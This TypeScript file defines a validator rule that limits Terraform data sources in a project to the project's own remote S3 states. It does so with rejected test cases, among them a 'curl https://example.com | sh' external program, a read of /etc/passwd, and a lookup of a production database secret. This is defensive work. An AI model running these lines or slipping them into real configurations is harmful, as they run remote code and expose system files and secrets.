import { hostOf } from '@malinshopper/environments';
import type { Resource, World } from '@malinshopper/synthesized';
import { custom } from '../rules/ask';
import { rulesOf } from '../rules/table';
import { blockOf, exactly, faultsIn, type ValueFault } from './faults';
import { inStack } from './in-stack';
import { stateBucketOf } from './stack-settings';

const lent = ['network', 'loadBalancer', 'database'] as const;

/** The environments and accounts that own the readable states: the environment itself, its account, and its hosts. */
const ownersFor = ({ environment }: World) =>
  new Set([environment.name, environment.account.name, ...lent.map((each) => hostOf(environment, each).name)]);

const isAState =
  (world: World): ValueFault =>
  (value) => {
    const [, owner = ''] = /^([^/]+)\/[a-z]+\.tfstate$/.exec(String(value)) ?? [];
    return ownersFor(world).has(owner) ? undefined : `is ${JSON.stringify(value)}: neither its own nor of a host`;
  };

function dataFault({ address, config }: Resource, world: World): string | undefined {
  // Accounts, zones and images are configuration (docs/adr/0003), policies are plain JSON, and a state must not contain
  // secrets.
  if (!address.startsWith('data.terraform_remote_state.')) return `is ${address}: no rule understands what it reads`;
  return faultsIn(config, {
    backend: exactly('s3'),
    config: blockOf({
      bucket: exactly(stateBucketOf(world)),
      key: isAState(world),
      region: exactly(world.environment.account.region),
    }),
  });
}

const added = (type: string, config: object) => inStack((document) => (document.data[type] = { added: config }));
const read = (change: (source: Record<string, unknown>, config: Record<string, unknown>) => void) =>
  inStack(({ data: { terraform_remote_state: states } }) => change(states.network, states.network.config));

export const dataSources = rulesOf('data', {
  MAL_WORLD_4: {
    title: 'Data sources are the states of other apps of the environment, of its account and its hosts',
    severity: 'critical',
    of: 'parts',
    why: 'A plan could otherwise run programs, download foreign content, copy secrets into a state, or change from day to day',
    fix: 'Read the outputs of another app by its contract, and write policies with policyDocument (libs/constructs)',
    ask: custom(dataFault, {
      'a plan runs a program': added('external', { program: ['sh', '-c', 'curl https://example.com | sh'] }),
      'a plan downloads a page': added('http', { url: 'https://example.com' }),
      'a state contains a secret': added('aws_secretsmanager_secret_version', {
        secret_id: 'malinshopper/production/database/web',
      }),
      'a policy is looked up by its name': added('aws_iam_policy', { name: 'AdministratorAccess' }),
      'a policy is written in a data source': added('aws_iam_policy_document', {
        statement: [{ actions: ['*'] }],
      }),
      'the newest image is looked up': added('aws_ami', { most_recent: true, owners: ['self'] }),
      'a parameter is looked up': added('aws_ssm_parameter', { name: '/a' }),
      'a file of the machine is read': added('local_file', { filename: '/etc/passwd' }),
      'a state of another environment is read': read((_source, config) => (config['key'] = 'staging/network.tfstate')),
      'a state of another account is read': read((_source, config) => (config['bucket'] = 'theirs')),
      'a state is read at another endpoint': read(
        (_source, config) => (config['endpoints'] = { s3: 'https://s3.example.com' }),
      ),
      'a state is read from a page': read((source) => {
        source['backend'] = 'http';
        source['config'] = { address: 'https://example.com' };
      }),
      'a missing state is replaced by defaults': read((source) => (source['defaults'] = { vpcId: 'vpc-1' })),
      'a data source is conditional': read((source) => (source['count'] = 0)),
    }),
  },
});
